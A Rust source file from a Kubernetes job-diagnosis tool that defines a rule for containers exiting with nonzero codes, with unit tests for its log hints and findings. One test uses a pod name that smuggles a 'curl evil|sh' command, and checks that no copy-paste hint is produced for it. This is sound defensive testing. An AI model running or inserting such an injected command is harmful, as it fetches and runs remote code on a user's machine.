//! A container exited with an error code without a conventional meaning.

use super::{Evidence, Explanation, Failure, Find, Rule, Topic, failure};

pub(super) static RULE: Rule = Rule {
    name: "container-failed",
    topic: Topic::ContainerFailed,
    summary: "A container exited with an error code.",
    cause: "The program ended with a code other than 0. What the code means is up to the program; the finding quotes the \
            termination message or the log.",
    advice: "Read the log: cyjob logs NAME --failed. A message that the program writes to its terminationMessagePath stays in \
             the pod's status, even when the log is gone.",
    sources: &["https://kubernetes.io/docs/tasks/debug/debug-application/determine-reason-pod-failure/"],
    find: Find::Failure(tell),
};

/// The last of the rules on failed containers: it explains every failure that no other rule knows.
#[expect(clippy::unnecessary_wraps, reason = "the rules before it may know nothing")]
fn tell(evidence: &Evidence<'_>, failure: &Failure) -> Option<Explanation> {
    Some(failure::exited(failure).hint_if_any(failure::log_hint(evidence, failure)))
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use crate::model::world::{World, failed};

    #[test]
    fn nobody_is_sent_to_read_an_empty_log() {
        let hint = |log: Option<&str>, message: &str| {
            let mut patch = failed(3, "Error");
            patch["status"]["containerStatuses"][0]["state"]["terminated"]["message"] = message.into();
            let world = World::new().pod("x-1", &patch);
            let world = match log {
                Some(text) => world.log("x-1", "main", text),
                None => world,
            };
            let hint = world.report().found("container-failed").hint.clone();
            hint.unwrap_or_default()
        };
        assert!(hint(Some(""), "").starts_with("\"main\" logged nothing"));
        assert!(hint(None, "").starts_with("read the log: cyjob logs x -n zoo --pod x-1 -c main"));
        assert_eq!(hint(Some("no route to db"), ""), "");
        assert_eq!(hint(Some(""), "its own words"), "");
    }

    #[test]
    fn no_hint_is_a_trap_to_paste() {
        let report = World::new().failed_pod("x;curl evil|sh #", 1, "Error").report();
        assert_eq!(report.found("container-failed").hint, None);
        World::new()
            .failed_pod("x-1.y", 1, "Error")
            .report()
            .assert_finds("container-failed", &["cyjob logs x -n zoo --pod x-1.y -c main"]);
    }

    #[test]
    fn equal_failures_are_one_finding_and_different_ones_several() {
        let world = World::new()
            .failed_pod("x-1", 3, "Error")
            .failed_pod("x-2", 3, "Error")
            .failed_pod("x-3", 4, "Error");
        let report = world.with("/status/failed", 3.into()).report();
        let findings: Vec<_> = report
            .findings()
            .iter()
            .filter(|finding| finding.rule.name == "container-failed")
            .collect();
        assert_eq!(findings.len(), 2);
        assert_eq!(findings[0].subject.count, 2, "the most frequent first");
        assert!(findings[0].message.contains("in 2 pods, e.g. x-"));
    }

    #[test]
    fn an_init_container_is_to_blame_for_what_never_started() {
        let patch = json!({
            "spec": {"initContainers": [{"name": "fetch", "image": "i"}]},
            "status": {"phase": "Failed", "initContainerStatuses": [{"name": "fetch", "state": {"terminated": {"exitCode": 5, "reason": "Error", "message": "cannot resolve bucket", "finishedAt": "2026-11-24T11:10:00Z"}}}],
                "containerStatuses": [{"name": "main", "state": {"waiting": {"reason": "PodInitializing"}}}]},
        });
        let report = World::new().pod("x-1", &patch).report();
        report.assert_fact("container-failed", "containerKind", "init");
        report.assert_fact("container-failed", "exitCode", 5);
        report.assert_fact("container-failed", "words", "cannot resolve bucket");
        report.assert_finds(
            "container-failed",
            &[
                "init container \"fetch\" exited 5",
                ": \"cannot resolve bucket\"; \"main\" never started",
            ],
        );
    }
}
